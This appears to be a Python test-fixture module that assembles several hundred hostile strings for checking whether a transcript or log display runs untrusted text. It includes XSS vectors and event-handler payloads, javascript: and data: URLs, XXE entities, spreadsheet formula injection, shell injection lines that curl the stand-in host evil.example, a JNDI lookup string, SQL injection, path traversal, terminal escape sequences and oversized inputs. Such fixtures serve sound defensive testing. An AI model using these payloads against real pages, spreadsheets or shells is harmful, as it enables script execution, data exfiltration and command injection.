"""What a transcript, a tool or a log may hold, and what no display may obey: some 700 texts, made from lists.

Each calls ``pwn(…)`` where a script would run, or names ``evil.example`` where a request would leave, or breaks out of
the form that holds it. :data:`PAYLOADS` has them all, in a fixed order, each once.
"""

from __future__ import annotations

__all__ = ["ALIVE", "HOST", "PAYLOADS", "SCRIPTED"]

HOST = "evil.example"
_URL = f"http://{HOST}/rath-hit"
_JS = "pwn('x')"

# Where a text may stand, and what would end that place.
_BREAKOUTS = (
    "", '">', "'>", "-->", "]]>", "</script>", "</style>", "</title>", "</textarea>", "</pre></details>", "</svg>",
    '"}]}</script>', "</template></noscript></iframe>", "*/ // ` \n", "<!--<script>",
)
_VECTORS = (
    f"<script>{_JS}</script>",
    f"<img src=x onerror={_JS}>",
    f"<svg onload={_JS}>",
    f"<img src={_URL}/image>",
    f'<iframe srcdoc="<script>parent.{_JS}</script>"></iframe>',
    f"<details open ontoggle={_JS}>",
    f"<input autofocus onfocus={_JS}>",
    f'<meta http-equiv="refresh" content="0;url={_URL}/refresh">',
    f"<style>@import url({_URL}/import.css);*{{background:url({_URL}/bg)}}</style>",
    f'<link rel="stylesheet" href="{_URL}/sheet.css">',
    f'<a href="javascript:{_JS}">click</a>',
    f"<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={_JS}&gt;'>",
)
ALIVE = tuple(_VECTORS[:7])
"""Those that run, or ask, as soon as a page obeys them: what shows that the harness would notice."""

_EVENTS = (
    "abort", "afterprint", "animationend", "animationstart", "auxclick", "beforecopy", "beforeinput", "beforeprint",
    "beforetoggle", "beforeunload", "blur", "cancel", "canplay", "change", "click", "close", "contextmenu", "copy",
    "cuechange", "dblclick", "drag", "drop", "ended", "error", "focus", "focusin", "focusout", "formdata",
    "fullscreenchange", "hashchange", "input", "invalid", "keydown", "keypress", "keyup", "load", "loadeddata",
    "loadstart", "message", "mousedown", "mouseenter", "mousemove", "mouseover", "mouseup", "mousewheel", "pagehide",
    "pageshow", "paste", "play", "pointerdown", "pointerenter", "pointermove", "pointerover", "pointerrawupdate",
    "popstate", "progress", "reset", "resize", "scroll", "scrollend", "search", "securitypolicyviolation", "seeked",
    "select", "selectionchange", "slotchange", "submit", "suspend", "toggle", "touchstart", "transitionend",
    "unhandledrejection", "unload", "wheel",
)
_ELEMENTS = (
    f"<audio src={_URL}/audio onerror={_JS} autoplay>",
    f"<video poster={_URL}/poster><source src=x onerror={_JS}></video>",
    f"<object data={_URL}/object></object>",
    f'<object data="javascript:{_JS}"></object>',
    f"<embed src={_URL}/embed>",
    f"<iframe src={_URL}/frame></iframe>",
    f'<iframe src="javascript:parent.{_JS}"></iframe>',
    f"<frameset onload={_JS}><frame src={_URL}/frame2></frameset>",
    f"<marquee onstart={_JS}>m</marquee>",
    f"<body onload={_JS} background={_URL}/body>",
    f"<table background={_URL}/table><td>t</table>",
    f"<form action={_URL}/form id=f><button formaction=javascript:{_JS}>b</button></form>",
    f"<base href={_URL}/base/>",
    f"<link rel=prefetch href={_URL}/prefetch>",
    f"<link rel=preconnect href=//{HOST}>",
    f"<link rel=dns-prefetch href=//{HOST}>",
    f"<link rel=modulepreload href={_URL}/module.js>",
    f"<link rel=manifest href={_URL}/manifest.json>",
    f"<link rel=icon href={_URL}/icon.png>",
    f"<script src={_URL}/script.js></script>",
    f"<script type=module>import '{_URL}/m.js'</script>",
    f'<script type="importmap">{{"imports":{{"a":"{_URL}/a.js"}}}}</script>',
    f"<picture><source srcset={_URL}/set><img src=x></picture>",
    f"<img srcset='{_URL}/1x 1x, {_URL}/2x 2x'>",
    "<img src=x:x onerror=&#112;wn(1)>",
    f"<input type=image src={_URL}/input onerror={_JS}>",
    f"<svg><script>{_JS}</script></svg>",
    f"<svg><script xlink:href={_URL}/svg.js /></svg>",
    f"<svg><use href={_URL}/use.svg#a /></svg>",
    f"<svg><image href={_URL}/svg.png /></svg>",
    f"<svg><animate onbegin={_JS} attributeName=x dur=1s></svg>",
    f"<svg><set attributeName=onmouseover to={_JS}></svg>",
    f"<svg><a xlink:href='javascript:{_JS}'><text y=20>x</text></a></svg>",
    f"<svg><foreignObject><body onload={_JS}></foreignObject></svg>",
    f"<svg><style>@import '{_URL}/svg.css'</style></svg>",
    f"<svg><filter><feImage href={_URL}/fe.png /></filter></svg>",
    f"<math href='javascript:{_JS}'>m</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{_JS}>x</maction></math>",
    f"<noscript><p title='</noscript><img src=x onerror={_JS}>'>",
    f"<template><img src=x onerror={_JS}></template>",
    f"<template shadowrootmode=open><img src=x onerror={_JS}></template>",
    f"<portal src={_URL}/portal>",
    f"<dialog open onclose={_JS}>d</dialog>",
    f"<x contenteditable onblur={_JS}>y</x>",
    f"<p style='background-image:url({_URL}/style)'>",
    "<p style='width:expression(pwn(1))'>",
    f"<p style='behavior:url({_URL}/x.htc)'>",
    f"<style>@font-face{{font-family:x;src:url({_URL}/font)}}*{{font-family:x}}</style>",
    f"<style>input[value^=a]{{background:url({_URL}/leak)}}</style>",
    f"<?xml-stylesheet href=\"{_URL}/xsl\" type=\"text/xsl\"?>",
    f"<!DOCTYPE x [<!ENTITY e SYSTEM \"{_URL}/entity\">]><x>&e;</x>",
    '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>',
    f"<xi:include href=\"{_URL}/include\" xmlns:xi=\"http://www.w3.org/2001/XInclude\"/>",
    f"<![CDATA[<script>{_JS}</script>]]>",
    f"<!--[if gte IE 4]><script>{_JS}</script><![endif]-->",
    f"<!-- --!><img src=x onerror={_JS}> -->",
    f"<scr<script>ipt>{_JS}</scr</script>ipt>",
    f"<ScRiPt\n>{_JS}</sCrIpT\t>",
    f"<script/x>{_JS}</script/x>",
    f"<img/src=x/onerror={_JS}>",
    f"<img\x0csrc=x\x0conerror={_JS}>",
    f"<img src='x' onerror = \"{_JS}\" >",
    f"<<img src=x onerror={_JS}>",
    f"<img src=x onerror={_JS}//",
    f"<a href=' javascript:{_JS}' autofocus>x</a>",
    f"<plaintext><script>{_JS}</script>",
    f"<xmp><script>{_JS}</script></xmp>",
    f"<listing></listing><img src=x onerror={_JS}>",
)
# The page's own names, taken away from under it.
_CLOBBERS = tuple(
    f"<{tag} id={name} name={name}>"
    for tag in ("form", "img", "a", "input")
    for name in ("rath-data", "graph", "panel", "list", "main", "search", "getElementById", "body", "__proto__", "textContent")
)
_SCHEMES = (
    f"javascript:{_JS}", f"JaVaScRiPt:{_JS}", f"java\tscript:{_JS}", f"java\nscript:{_JS}", f"\x01javascript:{_JS}",
    f"javascript&colon;{_JS}", f"javascript:/*--></title></style></textarea></script>*/{_JS}", f"vbscript:{_JS}",
    f"data:text/html,<script>{_JS}</script>", "data:text/html;base64,PHNjcmlwdD5wd24oMSk8L3NjcmlwdD4=",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{_JS}'/>", "file:///etc/passwd", f"//{HOST}/rath-hit",
    f"\\\\{HOST}\\share", f"view-source:{_URL}", f"blob:{_URL}", f"ftp://{HOST}/x", f"ws://{HOST}/rath-hit", f"mailto:x@{HOST}",
)
_LINKS = ("{}", "[click]({})", "![image]({})", "<{}>", '[r]: {} "t"', "<a href={}>x</a>", "<img src='{}'>")
_SPELLINGS = (
    "&lt;script&gt;pwn(1)&lt;/script&gt;", "&#60;script&#62;pwn(1)&#60;/script&#62;", "&#x3c;script&#x3e;pwn(1)",
    "&#0000060script>pwn(1)", "&amp;lt;script&amp;gt;", "&LT;img src=x onerror=pwn(1)&GT;", "&nvlt;&nbsp;&shy;&NotEqualTilde;",
    "+ADw-script+AD4-pwn(1)+ADw-/script+AD4-", "+ADw-meta charset=utf-7+AD4-", '<meta charset="utf-7">', '<meta charset="utf-16le">',
    "<meta http-equiv=content-type content='text/html;charset=iso-2022-jp'>", "\x1b$B<script>pwn(1)</script>\x1b(B", "~{<script>pwn(1)~}",
    "%3Cscript%3Epwn(1)%3C/script%3E", "%253Cscript%253E", "\\u003cscript\\u003epwn(1)\\u003c/script\\u003e", "\\x3cscript\\x3epwn(1)",
    "\\074script\\076", "\uff1cscript\uff1epwn(1)\uff1c/script\uff1e", "\u2039script\u203apwn(1)", "\u02c2script\u02c3", "\u00bcscript\u00be",
    "\ufe64script\ufe65", "<\u017fcript>pwn(1)</\u017fcript>", "<\u212aeygen onfocus=pwn(1) autofocus>", "<\u0131mg src=x onerror=pwn(1)>",
    "<\u200bscript>pwn(1)</script>", "<s\u00adcript>pwn(1)</script>", "\ufeff<script>pwn(1)</script>",
)
_TEMPLATES = (
    "{{constructor.constructor('pwn(1)')()}}", "{{7*7}}", "${pwn(1)}", "#{pwn(1)}", "<%= pwn(1) %>", "{% raw %}{% endraw %}", "[[pwn(1)]]",
    "$policy $title $style $data $script $ways $blocks", "${data}", "$$", "%(title)s %s %n %c", "{0} {title} {}", "{!r}", "__proto__",
    "constructor", "{{#with this}}{{lookup . 'x'}}{{/with}}", "@{pwn(1)}", "[bold]rich[/bold] [link=http://evil.example/rath-hit]x[/link]",
    ":warning: :smile:", "[/]", "\\[x]",
)
_DATA = (
    '"}];pwn(1);//', '"]}', "\\", '\\"', "\\\\\"", '{"a":', "\u2028pwn(1)\u2029", "';pwn(1);'", "`;pwn(1);`", "*/pwn(1)/*", "//\npwn(1)",
    "</script><script>pwn(1)</script>", "<!--<script>", "</SCRIPT >", "</script\n>", "NaN", "null", "undefined", "-0", "1e999", "true",
    '{"__proto__":{"polluted":true}}', "=cmd|' /C calc'!A0", f'=HYPERLINK("{_URL}","x")', f'=WEBSERVICE("{_URL}")', f'=IMPORTXML("{_URL}","//a")',
    "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "a,b\n=1", '";=1+1', "\u0009\u000d=2",
    '"]; A --> B', 'A["<img src=x onerror=pwn(1)>"]', f'click A "javascript:{_JS}"', f'click A href "{_URL}"', f"click A call {_JS}",
    "%%{init: {'securityLevel':'loose'}}%%", "end\nsubgraph x", "-->|x|", '"; URL="javascript:pwn(1)"; "', f'" href="{_URL}" "', "label=<<B>x</B>>",
    "\\N \\G \\E \\T", '"] }; digraph { a -> b', f'<IMG SRC="{_URL}/dot.png"/>', f'image="{_URL}/dot.png"', "#quot;#60;script#62;", "&#x22;]",
    "</data></node><node id='x'/>", "]]></data><![CDATA[", "<y:NodeLabel>x</y:NodeLabel>", "'; DROP TABLE sessions; --", f"$(curl {_URL})", f"`curl {_URL}`",
    f"; curl {_URL} #", f"| curl {_URL}", "${jndi:ldap://evil.example/rath-hit}", "../../../../etc/passwd", "..\\..\\windows", "/dev/stdout", "CON", "\n\n\n",
    " ", "\t", "",
)
_TERMINAL = (
    "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b[1A\x1b[2Koverwritten", "\x1b]0;title\x07", f"\x1b]8;;{_URL}\x07link\x1b]8;;\x07", "\x1b]8;;javascript:pwn(1)\x1b\\x\x1b]8;;\x1b\\",
    "\x1b]52;c;cHduKDEp\x07", "\x1b]1337;File=inline=1:AAAA\x07", "\x1bP+q544e\x1b\\", "\x1b_Gf=24;AAAA\x1b\\", "\x1bPq#0;2;0;0;0~\x1b\\", "\x1b[?1049h", "\x1b[6n", "\x1bc",
    "\x1b[200~paste\x1b[201~", "\x9b31mred\x9b0m", "\x9d0;title\x9c", "\x90q\x9c", "abc\b\b\bxyz", "safe\rEVIL", "\x07\x07", "\x0e\x0f", "\x1b#8", "\x1b(0lqk\x1b(B",
    "\x1b[38;2;0;0;0;48;2;0;0;0mhidden\x1b[0m", "\x1b[8mconcealed\x1b[28m",
)
_MARKS = (
    *range(0x00, 0x20), *range(0x7F, 0xA1), 0xAD, 0x34F, 0x61C, 0x115F, 0x17B4, 0x180E, *range(0x200B, 0x2010), *range(0x2028, 0x202F), *range(0x2060, 0x2070),
    0x3164, 0xD800, 0xDBFF, 0xDC00, 0xDFFF, 0xFDD0, 0xFE00, 0xFE0F, 0xFEFF, 0xFFA0, 0xFFF9, 0xFFFA, 0xFFFB, 0xFFFC, 0xFFFD, 0xFFFE, 0xFFFF, 0x1D173, 0xE0001, 0xE0041, 0xE007F,
    0xE0100, 0xF0000, 0x10FFFF,
)
_SCRIPTS = (
    "\u202eexe.txt\u202c", "a\u2066b\u2069c", "שלום <b>עולם</b>", "مرحبا <img src=x onerror=pwn(1)>", "Z\u0351\u036b\u0343a\u0329\u0316l\u034eg\u0332o", "e" + "\u0301" * 500, "👩‍👩‍👧‍👦🏳️‍🌈",
    "\ud83d", "\ude00\ud83d", "日本語の説明", "ﷺ" * 40, "𒐫" * 20, "\u1f3b2", "if (a\u2066 /* \u2069\u2066 */ == b)", "İıſK",
)
_LARGE = (
    "A" * 200_000, "<b>" * 5000, "<div>" * 5000 + "x" + "</div>" * 5000, "[" * 20_000, '{"a":' * 5000 + "1" + "}" * 5000, "&amp;" * 20_000, "\n" * 20_000, "<!--" * 5000, "\x00" * 20_000,
    "𝔘" * 20_000, "\u202e" * 5000, "x " * 50_000, "'\"`" * 10_000, "</script>" * 5000, "\x1b[31m" * 5000, "ﬀ" * 10_000,
)


def _all() -> tuple[str, ...]:
    found: list[str] = [before + vector for before in _BREAKOUTS for vector in _VECTORS]
    found += [f"<x tabindex=0 autofocus on{event}={_JS}>{event}</x>" for event in _EVENTS]
    found += [*_ELEMENTS, *_CLOBBERS]
    found += [form.format(scheme) for scheme in _SCHEMES for form in _LINKS]
    found += [*_SPELLINGS, *_TEMPLATES, *_DATA, *_TERMINAL]
    found += [f"a{chr(code)}b<i>" for code in _MARKS]
    found += [*_SCRIPTS, *_LARGE]
    return tuple(dict.fromkeys(found))


PAYLOADS = _all()
SCRIPTED = tuple(text for text in PAYLOADS if "pwn(" in text)
